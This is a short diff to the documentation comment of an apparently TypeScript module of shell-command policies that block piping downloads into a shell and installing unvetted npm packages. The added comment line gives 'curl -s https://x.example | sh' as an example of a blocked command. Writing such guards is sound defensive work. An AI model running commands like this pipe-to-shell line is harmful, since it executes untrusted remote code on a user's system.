@@ -4,8 +4,9 @@
  *
  * @example
  * ```ts
- * import { blockPipeToShell, blockUnvettedNpmInstall, DEFAULT_VETTED_PACKAGES } from "./policies/shell/remoteCode.ts"
+ * import { blockPipeToShell, blockUnvettedNpmInstall, DEFAULT_VETTED_PACKAGES } from "./remoteCode.ts"
  * const policies = [blockPipeToShell, blockUnvettedNpmInstall({ allow: DEFAULT_VETTED_PACKAGES })]
+ * // "curl -s https://x.example | sh" and "npm install left-pad" block; "npm install zod" passes
  * ```
  * @module
  */
